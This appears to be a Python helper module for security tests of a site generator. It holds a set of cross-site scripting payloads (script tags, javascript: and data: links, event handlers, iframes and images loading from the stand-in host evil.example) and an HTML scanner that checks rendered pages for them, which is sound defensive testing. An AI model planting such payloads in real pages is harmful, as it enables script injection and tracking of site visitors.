"""Helpers of the output-side hostile tests: payloads and a scanner for what a page may not contain."""
from __future__ import annotations

import contextlib
import re
import signal
from html.parser import HTMLParser
from pathlib import Path

EVIL = "evil.example"
# Registry text an attacker who can edit one file would write: raw HTML, Markdown links to
# javascript: and data: URLs, images from an outside host, attribute lists with event handlers.
PAYLOADS = {
    "name": "<script>alert('name')</script>MDRD",
    "note": f"[click](javascript:alert('note')) ![px](https://{EVIL}/pixel.png) "
            f"<img src=https://{EVIL}/a.png onerror=alert('img')>",
    "guideline": f'<script src="https://{EVIL}/x.js"></script>[g](javascript:alert(\'guideline\'))',
    "summary": f"![track](http://{EVIL}/t.gif) [a](JavaScript:alert('summary')) {{: onclick=\"alert('attr')\"}}\n\n"
               f"[ref]: javascript:alert('refdef')\n\nsee [ref] <https://{EVIL}/auto>",
    "deviation": f'<iframe src="https://{EVIL}/frame"></iframe>',
    "published": "[x](data:text/html,<script>alert('data')</script>) <svg onload=alert('svg')>",
    "replacement": "<a href=\"javascript:alert('replacement')\">successor</a>",
    "signoff": "<img src=x onerror=alert('signoff')>",
    "changelog": f"![c](https://{EVIL}/c.png) <script>alert('changelog')</script>",
}
LOADING = {"img", "script", "iframe", "frame", "embed", "object", "link", "source", "video", "audio", "image",
           "input", "form", "base", "meta", "use"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Scan(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on") and ("alert" in v or EVIL in v):
                self.found.append(f"<{tag} {name}={value!r}>: injected event handler")
            if name in URL_ATTRS:
                compact = re.sub(r"[\s\x00-\x1f]", "", v)
                if compact.startswith(BAD_SCHEMES):
                    self.found.append(f"<{tag} {name}={value!r}>: {compact.split(':')[0]}: URL")
                if EVIL in v:
                    self.found.append(f"<{tag} {name}={value!r}>: "
                                      + ("external resource load" if tag in LOADING else "link to an outside host"))
            if name == "style" and EVIL in v:
                self.found.append(f"<{tag} style={value!r}>: external resource load")

    def handle_data(self, data: str) -> None:
        if self._in_script and ("alert(" in data or EVIL in data):
            self.found.append(f"<script>{data[:60]!r}: injected script")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False


def scan_html(text: str) -> list[str]:
    """Script injection, javascript:/data: URLs and loads from the attacker's host in one page."""
    p = _Scan()
    p.feed(text)
    p.close()
    return p.found


def scan_site(out: Path) -> dict[str, list[str]]:
    bad = {}
    for page in sorted(out.rglob("*.html")):
        found = scan_html(page.read_text(encoding="utf-8"))
        if found:
            bad[str(page.relative_to(out))] = found
    return bad


@contextlib.contextmanager
def deadline(seconds: float):
    """Fail (TimeoutError) instead of hanging when the code inside runs past `seconds` (main thread, POSIX)."""
    def expired(signum, frame):
        raise TimeoutError(f"still running after {seconds} s")

    old = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
